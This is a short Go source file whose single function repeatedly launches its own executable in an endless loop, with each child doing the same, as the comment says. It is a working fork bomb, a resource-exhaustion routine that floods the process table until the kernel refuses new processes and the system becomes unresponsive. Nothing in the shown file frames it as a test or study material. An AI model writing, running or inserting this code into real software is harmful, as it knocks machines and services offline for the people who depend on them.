package main

import (
	"os"
	"os/exec"
	"time"
)

// fork starts itself again and again, as often as the kernel allows. All that it starts does the
// same.
func fork() error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	for {
		if err := exec.Command(self, "fork").Start(); err != nil {
			time.Sleep(10 * time.Millisecond)
		}
	}
}
